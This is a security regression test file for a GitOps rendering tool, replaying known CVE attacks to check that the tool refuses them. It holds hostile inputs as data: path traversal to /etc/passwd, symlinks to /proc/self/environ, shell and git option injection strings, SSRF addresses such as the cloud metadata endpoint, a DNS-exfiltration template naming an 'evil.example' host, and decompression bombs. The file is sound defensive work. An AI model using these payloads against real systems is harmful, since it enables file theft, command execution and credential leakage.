import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { createGitRepository } from '../../../src/adapters/git/repository.ts';
import { isForbiddenAddress } from '../../../src/adapters/git/smart-http.ts';
import { createRequester } from '../../../src/adapters/helm/guarded-request.ts';
import { createSandbox } from '../../../src/adapters/render/create-sandbox.ts';
import { renderBundle } from '../../../src/app/render-bundle.ts';
import type { ApplicationSource } from '../../../src/domain/fleet/application.ts';
import { parseFleetFile } from '../../../src/domain/fleet/parse-fleet-file.ts';
import { makeBundle } from '../../../src/domain/sources/bundle.ts';
import { localTools } from '../../fakes/local-tools.ts';
import { createMemoryLog } from '../../fakes/memory-ports.ts';
import { inspect, type MemoryFiles, memorySource } from '../../fakes/memory-source.ts';
import { applicationYaml, configMapYaml, createMemoryStack } from '../../fakes/memory-stack.ts';
import { tar } from '../../fakes/tar.ts';

const CANARY = 'canary-51c0de';
vi.stubEnv('TOWLINE_CANARY', CANARY);
const folder = mkdtempSync(join(tmpdir(), 'towline-advisories-'));
const temporary = join(folder, 'renders');
const OUTSIDE: Record<string, string> = {
  dollar: '$',
  json: `{"some":"${CANARY}"}`,
  secret: `apiVersion: v1\nkind: Secret\nmetadata: { name: s }\nstringData: { key: ${CANARY} }\n`,
  code: `#!/bin/sh\necho ${CANARY}\n`,
};
for (const [name, text] of Object.entries(OUTSIDE)) writeFileSync(join(folder, name), text);
mkdirSync(temporary);
const unchanged = () =>
  Object.fromEntries(Object.keys(OUTSIDE).map((name) => [name, readFileSync(join(folder, name), 'utf8')]));

const heard: IncomingMessage[] = [];
const sinkhole = createServer((request, response) => {
  heard.push(request);
  response.end('{}');
});
await new Promise<void>((resolve) => void sinkhole.listen(0, '127.0.0.1', resolve));
const SINKHOLE = `http://127.0.0.1:${(sinkhole.address() as AddressInfo).port}`;
const sandbox = createSandbox({ ...(await localTools()), temporary, deadlineMilliseconds: 10_000 });

afterAll(() => {
  sinkhole.close();
  vi.unstubAllEnvs();
  rmSync(folder, { recursive: true, force: true });
});

const CM = 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a }\n';
const CHART = 'apiVersion: v2\nname: c\nversion: 1.0.0\n';
const chart = (files: MemoryFiles): MemoryFiles => ({ 'a/Chart.yaml': CHART, 'a/templates/cm.yaml': CM, ...files });

interface Attack {
  files: MemoryFiles;
  source?: Partial<ApplicationSource>;
  /** The typed error; absent: it renders, without the effect that the attack is after. */
  code?: RegExp;
}

const render = async ({ files, source = {} }: Attack) => {
  const memory = memorySource(files);
  const inspection = await inspect(memory, { path: 'a', ...source });
  if (!inspection.ok) return inspection;
  return renderBundle({ sandbox })(makeBundle(inspection, memory.contents));
};
const values = (file: string): Attack => ({
  files: { ...chart({}), 'minio/values.yaml': `x: ${CANARY}` },
  source: { helm: { valueFiles: [file] } },
  code: /^(?:path-escapes|value-file-missing|value-file-refused|remote-file-missing)$/,
});
const dependency = (content: Parameters<typeof tar>[0]): MemoryFiles =>
  chart({ 'a/charts/d-1.0.0.tgz': { bytes: gzipSync(tar([{ name: 'd/Chart.yaml', content: CHART }, ...content])) } });
const link = (name: string) => ({ link: join(folder, name) });

const HELM_PATHS = 'CVE-2022-24348, CVE-2022-24730, CVE-2022-24731, CVE-2023-40026';
const LINKS = 'CVE-2022-24904, CVE-2022-31036, CVE-2022-25856';
const LOCK = 'CVE-2025-53547';
const GIANTS =
  'CVE-2022-31016, CVE-2023-40584, CVE-2024-29893, CVE-2025-32386, CVE-2025-32387, CVE-2025-55198, CVE-2025-55199, CVE-2022-23526';
const TRAVERSAL = 'CVE-2022-24877, CVE-2022-24878, CVE-2026-47680, CVE-2025-62156, CVE-2025-66626';
const SHELL = 'CVE-2022-24817, CVE-2021-41254';

const ATTACKS: [ids: string, what: string, Attack][] = [
  ...[
    '../../minio/../../../etc/passwd',
    '/../minio/values.yaml/../../../etc/passwd',
    '/etc/passwd',
    `file://${folder}/json`,
    `${SINKHOLE}/values.yaml`,
    'values.yaml\0../../../etc/passwd',
    `../../renders-evil/values.yaml`,
  ].map((file): [string, string, Attack] => [
    HELM_PATHS,
    `values from ${JSON.stringify(file).replace(folder, '')}`,
    values(file.replace('\\0', '\0')),
  ]),
  ...Object.keys(OUTSIDE).map((name): [string, string, Attack] => [
    LINKS,
    `a manifest that links to ${name}`,
    { files: { 'a/x.yaml': link(name), 'a/y.yaml': CM }, code: /^symlink-refused$/ },
  ]),
  [
    LINKS,
    'a value file that links to JSON outside',
    {
      files: chart({ 'a/v.yaml': link('json') }),
      source: { helm: { valueFiles: ['v.yaml'] } },
      code: /^symlink-refused$/,
    },
  ],
  [
    'Helm follows symlinks',
    'a template that links to /proc',
    { files: chart({ 'a/templates/x.yaml': { link: '/proc/self/environ' } }), code: /^symlink-refused$/ },
  ],
  [
    LOCK,
    'a Chart.lock that links to a script, with code in Chart.yaml',
    {
      files: chart({
        'a/Chart.yaml': `${CHART}dependencies: [{ name: "touch PWN", version: 1.0.0, repository: "file://../b" }]\n`,
        'a/Chart.lock': link('code'),
        'b/Chart.yaml': CHART,
      }),
      code: /^(?:symlink-refused|chart-|source-invalid|path-)/,
    },
  ],
  [
    GIANTS,
    'a manifest of 12 MB',
    { files: { 'a/x.yaml': `${CM}data: { x: "${'x'.repeat(12_000_000)}" }\n` }, code: /^source-too-large$/ },
  ],
  [
    GIANTS,
    'an archive of kilobytes that unpacks to 160 MB',
    { files: dependency([{ name: 'd/templates/x.yaml', content: Buffer.alloc(160_000_000) }]), code: /^render-/ },
  ],
  [
    GIANTS,
    'a schema that refers to itself',
    { files: chart({ 'a/values.schema.json': '{ "$ref": "#" }' }), code: /^render-failed$/ },
  ],
  [
    GIANTS,
    'more objects than anybody has',
    { files: { 'a/x.yaml': `---\n${CM}`.repeat(10_001) }, code: /^(?:render-too-large|manifest-invalid)$/ },
  ],
  [
    TRAVERSAL,
    'an archive with ../',
    { files: dependency([{ name: 'd/../../../../pwned', content: 'x' }]), code: /^render-failed$/ },
  ],
  [TRAVERSAL, 'an archive with an absolute path', { files: dependency([{ name: `${folder}/pwned`, content: 'x' }]) }],
  [
    TRAVERSAL,
    'bases in a circle',
    {
      files: { 'a/kustomization.yaml': 'resources: [../b]', 'b/kustomization.yaml': 'resources: [../a]' },
      code: /^render-failed$/,
    },
  ],
  [
    TRAVERSAL,
    'a kind that is a path',
    { files: { 'a/x.yaml': `apiVersion: v1\nkind: ../owned/marker\nmetadata: { name: ../../pwned }\n` } },
  ],
  ...['$(touch PWN)', ';touch PWN', 'x\ntouch PWN', '`touch PWN`'].map((text): [string, string, Attack] => [
    SHELL,
    `a parameter ${JSON.stringify(text)}`,
    {
      files: chart({ 'a/templates/cm.yaml': `${CM}data: { x: {{ .Values.v | quote }} }\n` }),
      source: { helm: { parameters: [{ name: 'v', value: text }] } },
    },
  ]),
  [
    'CVE-2023-25165',
    'a template that asks DNS',
    {
      files: chart({
        'a/templates/cm.yaml': `${CM}data: { x: {{ getHostByName "${CANARY}.evil.example" | quote }} }\n`,
      }),
    },
  ],
];

describe('a repository', () => {
  it.each(ATTACKS)('%s: %s', async (_ids, _what, attack) => {
    const outcome = await render(attack);
    const said = JSON.stringify(outcome);
    if (attack.code) expect('error' in outcome ? outcome.error.code : said.slice(0, 300)).toMatch(attack.code);
    else expect(outcome).toMatchObject({ ok: true });
    expect(said).not.toContain(CANARY);
    expect(unchanged()).toEqual(OUTSIDE);
    expect(readdirSync(folder).toSorted()).toEqual([...Object.keys(OUTSIDE), 'renders'].toSorted());
    expect(readdirSync(temporary)).toEqual([]);
    expect(heard).toEqual([]);
    // The next one is well.
    expect(await render({ files: { 'a/x.yaml': CM } })).toMatchObject({ ok: true });
  });

  it('CVE-2022-24817: a kubeconfig with a program in it is none of a deployed stack’s', () => {
    const fleet = `apiVersion: towline.dev/v1alpha1
kind: Fleet
metadata: { name: acme }
spec:
  source: { repoURL: https://github.com/acme/fleet, targetRevision: main, path: apps }
  repositories: [{ url: https://github.com/acme/fleet, forge: github }]
  clusters: [{ name: evil, kubeconfig: { path: ./kubeconfig, context: evil } }]
`;
    const parsed = parseFleetFile(fleet, { file: 'fleet.yaml', local: false });
    expect(parsed).toMatchObject({ ok: false });
    expect(JSON.stringify(parsed)).toContain('kubeconfig');
  });

  it.each(['--upload-pack=touch PWN;', 'refs/heads/--upload-pack=touch PWN', 'main;touch PWN', '-c core.fsmonitor=x'])(
    'CVE-2025-21613, CVE-2024-3817: the ref %j is no option',
    async (ref) => {
      const cacheDir = join(mkdtempSync(join(tmpdir(), 'towline-refs-')), 'cache');
      mkdirSync(cacheDir);
      const log = createMemoryLog();
      const repository = createGitRepository({
        url: SINKHOLE,
        log,
        allowInsecure: true,
        newId: () => 'id',
        searchPath: process.env.PATH,
        cacheDir,
      });
      const answer = await repository.resolve(ref).catch((error: unknown) => error);
      expect(answer instanceof Error || answer === undefined).toBe(true);
      expect(readdirSync('.')).not.toContain('PWN');
      repository.close();
      rmSync(join(cacheDir, '..'), { recursive: true, force: true });
      heard.splice(0);
    },
  );

  it('CVE-2026-41506: a redirect to another host takes no credential along', async () => {
    const first = createServer((request, response) => {
      response.writeHead(302, { location: `${SINKHOLE}${request.url}` }).end();
    });
    await new Promise<void>((resolve) => void first.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(first.address() as AddressInfo).port}`;
    await createRequester({ allowInsecure: true })({
      url: `${url}/index.yaml`,
      authorization: `Bearer ${CANARY}`,
      maxBytes: 1_000,
    });
    const cacheDir = mkdtempSync(join(tmpdir(), 'towline-redirect-'));
    const log = createMemoryLog();
    const repository = createGitRepository({
      url: `${url}/acme/fleet`,
      log,
      allowInsecure: true,
      newId: () => 'id',
      searchPath: process.env.PATH,
      cacheDir,
      credential: () => Promise.resolve(CANARY),
    });
    await expect(repository.listRefs()).rejects.toThrow();
    repository.close();
    first.close();
    rmSync(cacheDir, { recursive: true, force: true });
    expect(heard.length).toBeGreaterThan(0);
    expect(
      JSON.stringify([heard.splice(0).map(({ headers, url: asked }) => [headers, asked]), log.lines]),
    ).not.toContain(CANARY);
  });

  it.each([
    'https://169.254.169.254/latest',
    'https://127.0.0.1:9001/x',
    'https://[fd00:ec2::254]/x',
    'https://[::ffff:169.254.169.254]/x',
    'https://localhost/x',
    `${SINKHOLE}/x`,
    'file:///etc/passwd',
    'https://0x7f000001/',
  ])('CVE-2026-32828: a deployed stack does not ask %s', async (url) => {
    await expect(createRequester({ allowInsecure: false })({ url, maxBytes: 1_000 })).rejects.toMatchObject({
      name: 'AppError',
    });
    expect(heard).toEqual([]);
  });

  it('CVE-2026-32828: nor does git, whatever a name resolves to', () => {
    const inside = ['169.254.169.254', '127.0.0.1', 'fd00:ec2::254', '::1', '::ffff:169.254.169.254'];
    expect(inside.filter((address) => !isForbiddenAddress(address))).toEqual([]);
    expect(isForbiddenAddress('140.82.121.4')).toBe(false);
  });

  it('CVE-2022-39272, CVE-2026-40886: one malformed object stops nobody else', async () => {
    const stack = await createMemoryStack();
    const names = Array.from({ length: 12 }, (_, index) => `app-${index}`);
    const files = Object.fromEntries(
      names.flatMap((name) => [
        [`apps/${name}.yaml`, applicationYaml(name, name, 'dev')],
        [`${name}/x.yaml`, configMapYaml('settings', name)],
      ]),
    );
    const malformed = {
      'app-0/x.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata: 7\n',
      'app-1/x.yaml': 'apiVersion: [v1]\nkind: { a: b }\nmetadata: { name: x }\n',
      'app-2/x.yaml': '- 1\n- null\n',
      'apps/broken.yaml': 'apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: []\nspec: 3\n',
    };
    await stack.push({ ...files, ...malformed });
    await stack.settle(30);
    const applied = names.filter((name) => stack.clusters.dev.objects.has(`/ConfigMap/${name}/settings`));
    expect(applied).toEqual(names.slice(3));
    for (const name of names.slice(0, 2)) {
      expect(stack.applications.rows.get(`argocd/${name}`)?.told).toMatchObject({ phase: 'failed' });
    }
  });
});
